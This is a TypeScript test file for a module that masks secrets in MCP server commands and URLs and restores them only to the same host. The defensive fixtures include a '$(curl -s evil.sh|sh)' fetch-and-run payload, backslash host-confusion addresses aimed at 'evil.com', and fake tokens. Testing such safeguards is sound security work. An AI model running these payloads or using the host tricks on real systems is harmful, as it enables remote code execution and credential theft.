// Putting hidden values back (review 14 round 2, review 15): each mark goes to its own place only,
// never to another host or from a fragment into the query; a change the file cannot tell apart is
// refused with a sentence, never filled with an old value; JSON, ids, amounts and odd addresses keep
// their round trip exact; and the trust card shows a command as it will run.
import { describe, expect, it } from "vitest";
import { maskUrl, unmaskUrl } from "./hiddenAddress.ts";
import { hideKeyValues, maskCommand, maskSecretsIn, unmaskCommand } from "./mcpHiddenParts.ts";
import { MissingHiddenPartError, tokenLike } from "./secretLook.ts";

describe("putting hidden values back (review 14, round 2)", () => {
  const ghp = "ghp_R8c3kLq0ZxT5vN2mWp7yHs4dJf9aBe1Gu6Ci";

  it("carries a hidden part only to the same scheme, host and port, a default port or upper case being the same", () => {
    const old = "https://h.example.com/x?token=T";
    expect(unmaskUrl("https://H.example.com:443/y?token={hidden}", old)).toBe("https://H.example.com:443/y?token=T");
    for (const elsewhere of ["http://h.example.com/x?token={hidden}", "https://h.example.com:8443/x?token={hidden}"])
      expect(() => unmaskUrl(elsewhere, old)).toThrow(/points elsewhere than the file's \(https:\/\/h\.example\.com\)/);
    // A file's address whose host is a variable: another host typed in its place does not get the key.
    expect(() => unmaskUrl("https://evil.example/x?token={hidden}", "https://{env:HOST}/x?token=T")).toThrow(
      /points elsewhere/,
    );
    expect(
      unmaskUrl("https://h.example.com/x?token={hidden}&token={hidden}", "https://h.example.com/x?token=A&token=B"),
    ).toBe("https://h.example.com/x?token=A&token=B");
  });

  it("puts each address argument's values back from the address to the same place, whatever moved around it", () => {
    const old = ["npx", "mcp-remote", "https://a.example.com/x?token=T1", "https://b.example.com/?token=T2"];
    const form = maskCommand(old);
    expect(unmaskCommand([form[0], form[1], "--debug", form[2], form[3]] as string[], old)).toEqual([
      "npx",
      "mcp-remote",
      "--debug",
      "https://a.example.com/x?token=T1",
      "https://b.example.com/?token=T2",
    ]);
    const sameHost = ["npx", "mcp-remote", "https://h.example.com/a?token=T1", "https://h.example.com/b?token=T2"];
    const shown = maskCommand(sameHost);
    expect(unmaskCommand([shown[0], shown[1], "--debug", shown[2], shown[3]] as string[], sameHost)).toEqual([
      "npx",
      "mcp-remote",
      "--debug",
      "https://h.example.com/a?token=T1",
      "https://h.example.com/b?token=T2",
    ]);
  });

  it("keeps a key after a flag of no secret name through an edit, and refuses when one of two like marks was removed", () => {
    expect(maskCommand(["srv", "--verbose", ghp])).toEqual(["srv", "--verbose", "{hidden}"]);
    expect(unmaskCommand(["srv", "--verbose", "--debug", "{hidden}"], ["srv", "--verbose", ghp])).toEqual([
      "srv",
      "--verbose",
      "--debug",
      ghp,
    ]);
    expect(() => unmaskCommand(["srv", "--token={hidden}"], ["srv", "--token=A", "--token=B"])).toThrow(
      /hold 1 hidden value like "--token=\{hidden\}" and the file 2: which is which cannot be told/,
    );
    expect(unmaskCommand(["srv", "--token={hidden}", "--token={hidden}"], ["srv", "--token=A", "--token=B"])).toEqual([
      "srv",
      "--token=A",
      "--token=B",
    ]);
  });

  it("hides a NAME=value argument holding a key (docker's -e, env), not one holding a port", () => {
    expect(
      maskCommand(["docker", "run", "-e", `GITHUB_PERSONAL_ACCESS_TOKEN=${ghp}`, "-e", "PORT=3000", "env", "MY_APP=x"]),
    ).toEqual(["docker", "run", "-e", "GITHUB_PERSONAL_ACCESS_TOKEN={hidden}", "-e", "PORT=3000", "env", "MY_APP=x"]);
  });

  it("hides a secret inside JSON settings given as an argument, keeps it when the argument is unchanged, refuses an edit", () => {
    const settings = `{"apiKey": "plain-words-key", "region":"eu", "note":"${ghp}", "keys": ["a1", "b2"], "password": 123456, "server": "https://h.com/mcp?token=abc"}`;
    const file = ["npx", "-y", "some-mcp", "--config", settings, `--extra={"token":"abc"}`];
    const shown = maskCommand(file);
    expect(shown).toEqual([
      "npx",
      "-y",
      "some-mcp",
      "--config",
      '{"apiKey": "{hidden}", "region":"eu", "note":"{hidden}", "keys": ["{hidden}", "{hidden}"], "password": "{hidden}", "server": "https://h.com/mcp?token={hidden}"}',
      '--extra={"token":"{hidden}"}',
    ]);
    // Sent back as shown, with the package changed beside it: the file's values are kept.
    expect(unmaskCommand(["npx", "-y", "some-mcp@2", ...shown.slice(3)], file)).toEqual([
      "npx",
      "-y",
      "some-mcp@2",
      ...file.slice(3),
    ]);
    // The JSON itself edited around a mark: which value it was cannot be told, so it is refused.
    const edited = [...shown.slice(0, 4), (shown[4] ?? "").replace('"eu"', '"us"'), shown[5] ?? ""];
    expect(() => unmaskCommand(edited, file)).toThrow(/hidden value the file has no value for/);
    // The trust card hides only values that look like keys, never by the member's or a query's name.
    expect(hideKeyValues(file)[4]).toBe(
      '{"apiKey": "plain-words-key", "region":"eu", "note":"{hidden}", "keys": ["a1", "b2"], "password": 123456, "server": "https://h.com/mcp?token=abc"}',
    );
    // JSON with nothing to hide is shown as written.
    expect(maskCommand(["npx", "x", '{ "region": "eu" }'])).toEqual(["npx", "x", '{ "region": "eu" }']);
  });

  it("hides a whole JSON value a secret name stands before, and masking twice changes nothing (review 15, H1)", () => {
    const privateKey = `-----BEGIN PRIVATE KEY-----\n${"MIIEvQIBADANBgkqhkiG9w0BAQEFAASC".repeat(50)}\n-----END PRIVATE KEY-----\n`;
    const credentials = JSON.stringify({
      type: "service_account",
      private_key_id: "0123abcd",
      private_key: privateKey,
    });
    const commands = [
      ["docker", "run", "-e", `GOOGLE_CREDENTIALS=${credentials}`, "mcp/gdrive"],
      ["node", "server.js", `--auth={"user":"bob","token":"abc"}`, `SECRETS={"password":"hunter2"}`],
      ["npx", "mcp-remote", `https://h.com/mcp?api_key=${ghp}&filter={"token":"abc"}`],
      ["npx", "some-mcp", "--config", `{"service":{"private_key":"${"k".repeat(2000)}"}}`],
      ["npx", "some-mcp", `--options={"region":"eu","apiKey":"abc"}`, `CONFIG={"clientSecret":"s3cr3t"}`],
    ];
    expect(maskCommand(commands[0] ?? [])[3]).toBe("GOOGLE_CREDENTIALS={hidden}");
    expect(maskCommand(commands[1] ?? []).slice(2)).toEqual(["--auth={hidden}", "SECRETS={hidden}"]);
    expect(maskCommand(commands[2] ?? [])[2]).toBe('https://h.com/mcp?api_key={hidden}&filter={"token":"abc"}');
    expect(maskCommand(commands[3] ?? [])[3]).toBe('{"service":{"private_key":"{hidden}"}}');
    for (const command of commands) {
      const shown = maskCommand(command);
      expect(shown.join(" ")).not.toMatch(/hunter2|s3cr3t|kkkk|MIIEvQ|ghp_/);
      expect(maskCommand(shown)).toEqual(shown);
      expect(unmaskCommand(shown, command)).toEqual(command);
    }
  });

  it("hides a key in an address's fragment (OAuth's implicit flow writes one there) and puts it back", () => {
    const url = `https://mcp.example.com/sse#access_token=${ghp}&state=1`;
    expect(maskUrl(url)).toBe("https://mcp.example.com/sse#access_token={hidden}&state=1");
    expect(unmaskUrl("https://mcp.example.com/sse#access_token={hidden}&state=2", url)).toBe(
      `https://mcp.example.com/sse#access_token=${ghp}&state=2`,
    );
  });

  it("shows a Google document's id and a value named as an id, still hiding a well-known key named so", () => {
    const sheet = "1BxiMVs0XRA5nFMdKvBdBZjgmUUqptlbs74OgvE2upms";
    expect(tokenLike(sheet)).toBe(true); // random-looking: hidden wherever nothing says it is an id
    const address = `https://docs.google.com/spreadsheets/d/${sheet}/edit?usp=sharing`;
    expect(maskUrl(address)).toBe(address);
    expect(maskUrl(`https://drive.google.com/drive/folders/${sheet}`)).toBe(
      `https://drive.google.com/drive/folders/${sheet}`,
    );
    // The same segment elsewhere is still taken for a key.
    expect(maskUrl(`https://mcp.example.com/d/${sheet}`)).toBe("https://mcp.example.com/d/{hidden}");
    const command = ["npx", "gsheets-mcp", "--spreadsheet-id", sheet, `--folder-id=${sheet}`, `FILE_ID=${sheet}`];
    expect(maskCommand(command)).toEqual(command);
    expect(maskCommand(["npx", "x", `{"spreadsheetId":"${sheet}"}`, `--client-id=${ghp}`])).toEqual([
      "npx",
      "x",
      `{"spreadsheetId":"${sheet}"}`,
      "--client-id={hidden}",
    ]);
    expect(maskUrl(`https://h.com/mcp?fileId=${sheet}`)).toBe(`https://h.com/mcp?fileId=${sheet}`);
  });

  it("does not carry a key to the host a backslash really sends it to (review 15, H2)", () => {
    const file = `https://h.com/mcp?token=${ghp}`;
    for (const form of ["https://evil.com\\@h.com/mcp?token={hidden}", "https://evil.com\\:x@h.com/mcp?token={hidden}"])
      expect(() => unmaskUrl(form, file)).toThrow(/points elsewhere than the file's \(https:\/\/h\.com\)/);
    // The same host written otherwise is the same place.
    expect(unmaskUrl("HTTPS://H.com:443/mcp?token={hidden}", file)).toBe(`HTTPS://H.com:443/mcp?token=${ghp}`);
  });

  it("puts a fragment's key back in the fragment only, never into the query that is sent (review 15, L2)", () => {
    const file = `https://h.com/sse#access_token=${ghp}`;
    expect(() => unmaskUrl("https://h.com/sse?access_token={hidden}", file)).toThrow(MissingHiddenPartError);
    expect(unmaskUrl("https://h.com/sse2#access_token={hidden}", file)).toBe(`https://h.com/sse2#access_token=${ghp}`);
  });

  it("does not take an amount for a secret: --max-tokens, MAX_TOKENS=, a token limit in JSON (review 15, L3)", () => {
    const command = [
      "npx",
      "llm-mcp",
      "--max-tokens=4096",
      "MAX_TOKENS=4096",
      '{"tokenLimit":"8000","maxTokens":4096}',
    ];
    expect(maskCommand(command)).toEqual(command);
    expect(maskCommand(["npx", "x", "--token=abc", '{"token":"abc"}'])).toEqual([
      "npx",
      "x",
      "--token={hidden}",
      '{"token":"{hidden}"}',
    ]);
  });

  it("hides a key at a sentence's end or after an escape in OpenCode's words (review 15, L1)", () => {
    const aws = "q7Lk3+Zp9/Xw2Rt8Vb1Nm6Yc4Hs0Jd5Fg7Kl2Pq9Wz3";
    expect(tokenLike(aws)).toBe(true);
    expect(maskSecretsIn(`the secret is ${aws}.`)).toBe("the secret is {hidden}.");
    expect(maskSecretsIn(`stderr: "line one\\n${ghp}"`)).toBe('stderr: "line one\\n{hidden}"');
    expect(maskSecretsIn("see docs/api.reference.md and version 1.18.33.")).toBe(
      "see docs/api.reference.md and version 1.18.33.",
    );
  });

  it("shows the trust card a JSON argument as it will run: no payload behind a query's name, no duplicate key dropped (round 3, H1/H2)", () => {
    for (const argument of [
      '["https://h.com/?token=$(curl -s evil.sh|sh)"]',
      'X={"u":"https://h.com/?auth=$(id)"}',
      '{"a":"\\u0024(id)","n":12345678901234567890,"s":  "spaced"}',
    ])
      expect(hideKeyValues(["sh", "-c", argument])[2]).toBe(argument);
    expect(hideKeyValues(["sh", "-c", `{"a":"$(curl -s evil.sh|sh)","a":"x","k":"${ghp}"}`])[2]).toBe(
      '{"a":"$(curl -s evil.sh|sh)","a":"x","k":"{hidden}"}',
    );
  });

  it("refuses a new secret typed inside JSON beside a kept mark, rather than keeping the old one silently (round 3, H3)", () => {
    const file = ["npx", '{"token":"a","password":"b"}', `--config={"token":"a","password":"b"}`];
    const shown = maskCommand(file);
    expect(shown.slice(1)).toEqual([
      '{"token":"{hidden}","password":"{hidden}"}',
      '--config={"token":"{hidden}","password":"{hidden}"}',
    ]);
    expect(() => unmaskCommand(["npx", '{"token":"{hidden}","password":"NEW"}', shown[2] ?? ""], file)).toThrow(
      MissingHiddenPartError,
    );
    expect(() =>
      unmaskCommand(["npx", shown[1] ?? "", '--config={"token":"{hidden}","password":"NEW"}'], file),
    ).toThrow(MissingHiddenPartError);
    expect(unmaskCommand(shown, file)).toEqual(file);
  });

  it("answers for JSON nested past any use rather than failing: the form hides it whole, the card shows it (round 3, H4)", () => {
    const deep = `${"[".repeat(20_000)}"x"${"]".repeat(20_000)}`;
    const file = ["npx", "server", deep, `--config=${deep}`];
    const shown = maskCommand(file);
    expect(shown).toEqual(["npx", "server", "{hidden}", "--config={hidden}"]);
    expect(unmaskCommand(shown, file)).toEqual(file);
    expect(hideKeyValues(file)).toEqual(file);
  });

  it("hides an address, a header or nested JSON given as a flag's or variable's value, and puts it back (round 3, H5/M2)", () => {
    const file = [
      "docker",
      "run",
      "-e",
      "DATABASE_URL=postgres://app:hunter2@db/app",
      "--url=https://h.com/mcp?token=abc",
      "--header=Authorization: Bearer abc",
      '{"secrets":{"db":"hunter2","list":["s3cr3t"]},"region":"eu"}',
      "-e",
      "MiniMaxApiKey=plainwords",
    ];
    const shown = maskCommand(file);
    expect(shown.slice(3)).toEqual([
      "DATABASE_URL=postgres://app:{hidden}@db/app",
      "--url=https://h.com/mcp?token={hidden}",
      "--header=Authorization: {hidden}",
      '{"secrets":{"db":"{hidden}","list":["{hidden}"]},"region":"eu"}',
      "-e",
      "MiniMaxApiKey={hidden}",
    ]);
    expect(maskCommand(shown)).toEqual(shown);
    expect(unmaskCommand(shown, file)).toEqual(file);
  });

  it("reads a password with an @ as the URL parser does, and a host's case as DNS does (round 3, L1/L2)", () => {
    const file = "https://u:p@ss@h.com/mcp";
    expect(maskUrl(file)).toBe("https://u:{hidden}@h.com/mcp");
    expect(unmaskUrl("https://u:{hidden}@h.com/mcp2", file)).toBe("https://u:p@ss@h.com/mcp2");
    expect(unmaskUrl("postgres://u:{hidden}@db.example:5432/app", "postgres://u:pw@DB.example:5432/app")).toBe(
      "postgres://u:pw@db.example:5432/app",
    );
  });

  it("keeps every address round trip exact: repeated names, {env:…} beside a key, a ;param, a leading space (round 4)", () => {
    const key = "Ab1Cd2Ef3Gh4Ij5Kl6Mn7Op8Qr9St0UvWx1Yz2";
    const commands = [
      ["p", `https://h.com/?k=abc&k=${key}`],
      ["p", "https://h.com/?token={env:X}&token=secret1"],
      ["p", `https://h.com/${key}/;token=1/${key}x`],
      ["p", " https://u:pw@h.com/?token=s", "X= postgres://u:pw@h/"],
      ["p", "https://u:pw@{env:HOST}/mcp"],
    ];
    for (const command of commands) {
      const shown = maskCommand(command);
      expect(shown.join(" ")).not.toMatch(/secret1|:pw@|token=s\b/);
      expect(maskCommand(shown)).toEqual(shown);
      expect(unmaskCommand(shown, command)).toEqual(command);
    }
    expect(unmaskUrl(`https://h.com/?k=abc&k={hidden}`, `https://h.com/?k=abc&k=${key}`)).toBe(
      `https://h.com/?k=abc&k=${key}`,
    );
  });

  it("never names the file's password in a refusal, and never lets a value put back move the address (round 4, H4/M1)", () => {
    const refused = (() => {
      try {
        unmaskUrl("https://u:{hidden}@{env:OTHER}/mcp", "https://u:pw@{env:HOST}/mcp");
      } catch (error) {
        return error as Error;
      }
    })();
    expect(refused).toBeInstanceOf(MissingHiddenPartError);
    expect(refused?.message).not.toMatch(/pw/);
    // A query's key written into the user part of the address is not a query's key.
    expect(() => unmaskUrl("https://x&token={hidden}@h.com/", "https://h.com/?token=ab/cd")).toThrow(
      MissingHiddenPartError,
    );
  });

  it("leaves values under long nested names of no secret, and hides every item of a long list under a secret name", () => {
    const names = Array.from({ length: 60 }, (_, i) => `"${"k".repeat(2_000)}${i}":{`).join("");
    const argument = `{${names}"z":[${Array(20_000).fill(0).join(",")}]${"}".repeat(61)}`;
    expect(maskCommand(["p", argument])).toEqual(["p", argument]);
    const secret = `{"secrets":{"list":[${Array(20_000).fill('"s"').join(",")}]}}`;
    expect(maskCommand(["p", secret])[1]).toBe(`{"secrets":{"list":[${Array(20_000).fill('"{hidden}"').join(",")}]}}`);
  });

  it("refuses a host hidden behind a backslash in an {env:…} address, hides path parameters, keeps odd files exact (round 5)", () => {
    expect(() =>
      unmaskCommand(
        ["p", "https://{env:OTHER}\\@{env:HOST}/mcp?token={hidden}"],
        ["p", "https://{env:HOST}/mcp?token=abc"],
      ),
    ).toThrow(MissingHiddenPartError);
    for (const url of ["https://h.com/mcp;token=mysecret", "https://h.com/mcp&token=secret/next"]) {
      expect(maskUrl(url)).not.toMatch(/secret/);
      expect(unmaskUrl(maskUrl(url), url)).toBe(url);
    }
    for (const command of [
      ["p", "https://h.com/?a={hidden}&token=s"],
      ["p", "https://u:p\\w@h.com/mcp"],
      ["p", "--keep={hidden}", "--token=abc"],
    ])
      expect(unmaskCommand(maskCommand(command), command)).toEqual(command);
  });

  it("takes a reference in the address's authority as its own place, exactly as written (round 6)", () => {
    // OpenCode expands {env:HOME} as text first: /home/alice@h.com sends the request to host `home`.
    const pairs: [string, string][] = [
      ["https://{env:HOME}@h.com/mcp?token={hidden}", "https://h.com/mcp?token=abc123"],
      ["https://{file:notes.txt}@h.com/mcp?token={hidden}", "https://h.com/mcp?token=abc123"],
      ["https://{env:host}/mcp?token={hidden}", "https://{env:HOST}/mcp?token=abc123"],
    ];
    for (const [form, file] of pairs) expect(() => unmaskUrl(form, file), form).toThrow(MissingHiddenPartError);
    // A refusal never shows the file's password, a backslash in it or not.
    for (const file of ["https://u:p\\w@h.com/mcp", "https://u:pw@{env:HOST}/mcp"]) {
      const message = (() => {
        try {
          unmaskUrl("https://u:{hidden}@other.com/mcp", file);
        } catch (error) {
          return (error as Error).message;
        }
      })();
      expect(message, file).toMatch(/points elsewhere/);
      expect(message, file).not.toMatch(/p\\w|:pw@/);
    }
    // A password mark on a plain host, and one on a reference host, still go back.
    expect(unmaskUrl("https://u:{hidden}@h.com/mcp2", "https://u:pw@h.com/mcp")).toBe("https://u:pw@h.com/mcp2");
    expect(unmaskUrl("https://u:{hidden}@{env:HOST}/mcp2", "https://u:pw@{env:HOST}/mcp")).toBe(
      "https://u:pw@{env:HOST}/mcp2",
    );
  });

  it("takes more key formats for keys, and long model names still for none", () => {
    for (const key of [
      "whsec_0aB1cD2eF3gH4iJ5kL6mN7oP8qR9sT0u",
      "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s",
      "fc-0123456789abcdef0123456789abcdef",
      "q7Lk3+Zp9/Xw2Rt8Vb1Nm6Yc4Hs0Jd5Fg7Kl2Pq9Wz3=",
    ])
      expect(tokenLike(key), key).toBe(true);
    for (const name of [
      "Qwen3-Coder-30B-A3B-Instruct-FP8-Dynamic",
      "DeepSeek-R1-Distill-Qwen-32B-GGUF-Q4_K_M",
      "NVIDIA-Nemotron-Nano-9B-v2-FP8-Instruct",
    ])
      expect(tokenLike(name), name).toBe(false);
  });
});
